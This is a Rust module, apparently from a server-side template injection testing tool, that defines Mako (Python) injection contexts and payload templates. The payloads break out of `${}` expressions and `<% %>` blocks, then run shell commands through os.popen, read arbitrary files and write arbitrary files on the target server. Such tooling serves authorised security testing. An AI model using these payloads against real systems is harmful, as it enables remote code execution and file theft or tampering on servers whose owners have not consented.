//! Mako (python)
//!
//! `${…}` expression tags with full inline python, so every capability has
//! a direct payload.

use crate::core::closures::{ClosureSet, ClosureTable, InjectionContext};
use crate::core::descriptor::{
    EngineDescriptor, EvalProbe, ExecProbe, Identity, ReadProbe, WriteProbe,
};
use crate::core::template::Template;

pub fn descriptor() -> EngineDescriptor {
    let mut closures = ClosureTable::new();
    closures.insert("quote", vec!["'", "\""]);
    closures.insert("paren", vec![")"]);
    closures.insert("bracket", vec!["]"]);

    EngineDescriptor {
        name: "mako",
        language: "python",
        render_tag: Template::new("${{payload}}"),
        header_tag: Template::new("${{header}}"),
        trailer_tag: Template::new("${{trailer}}"),
        contexts: vec![
            // Trapped inside an open ${ expression }.
            InjectionContext {
                level: 1,
                prefix: Some(Template::new("{closure}}")),
                suffix: Some("${1"),
                closures: vec![
                    ClosureSet {
                        level: 1,
                        specs: vec![vec![], vec!["quote"], vec!["quote", "paren"]],
                    },
                    ClosureSet {
                        level: 2,
                        specs: vec![vec!["quote", "bracket"]],
                    },
                ],
            },
            // Trapped inside a <% code block %>.
            InjectionContext {
                level: 3,
                prefix: Some(Template::new("{closure}%>")),
                suffix: Some("<%doc>"),
                closures: vec![ClosureSet {
                    level: 3,
                    specs: vec![vec![], vec!["quote"], vec!["quote", "paren"]],
                }],
            },
        ],
        closures,
        identity: Identity::Uppercase(Template::new("${'{token}'.upper()}")),
        eval: Some(EvalProbe {
            literal: Template::new("${'{token}'}"),
            language: "python",
        }),
        exec: Some(ExecProbe {
            command: Template::new("${__import__('os').popen('{command}').read()}"),
        }),
        read: Some(ReadProbe {
            path: Template::new("${open('{path}').read()}"),
        }),
        write: Some(WriteProbe {
            write: Template::new("${open('{path}','w').write('{data}')}"),
        }),
    }
}
